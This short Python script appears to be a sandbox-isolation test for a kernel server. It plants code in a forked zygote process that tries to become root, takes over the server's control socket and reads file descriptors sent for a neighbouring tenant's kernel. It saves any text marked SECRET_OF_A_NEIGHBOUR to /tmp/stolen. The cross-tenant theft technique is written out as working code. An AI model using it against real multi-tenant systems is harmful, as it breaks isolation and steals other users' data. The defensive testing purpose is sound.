# Interrupts a fork of the zygote and reads, in its place, what the server sends for a neighbour's kernel.
# Control: a zygote that enters the sandbox first

STOLEN = "/tmp/stolen"
plant(f"""
import os, socket, stat
try:
    # Whoever has just entered is nobody here, and cannot make files.
    os.setresgid(0, 0, 0)
    os.setresuid(0, 0, 0)
except OSError:
    pass
for number in range(256):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            continue
        control = socket.socket(fileno=os.dup(number))
        if control.type != socket.SOCK_SEQPACKET:
            continue
        if number == 0:
            # That is the one. Requests of this sandbox would only be in the way now.
            open("/tmp/enough", "w").close()
        while True:
            word, received, _, _ = socket.recv_fds(control, 16, 64)
            if not word:
                break
            text = os.pread(received[0], 1 << 20, 0) if received else b""
            if b"SECRET_OF_A_NEIGHBOUR" in text:
                with open("{STOLEN}", "wb") as file:
                    file.write(text[text.index(b"SECRET_OF_A_NEIGHBOUR"):][:60])
    except OSError:
        pass
os._exit(0)
""")


def look(number):
    interrupt(number)
    if os.path.exists(STOLEN):
        with open(STOLEN) as file:
            return "read " + file.read()


while_kernels_come(look, seconds=32)
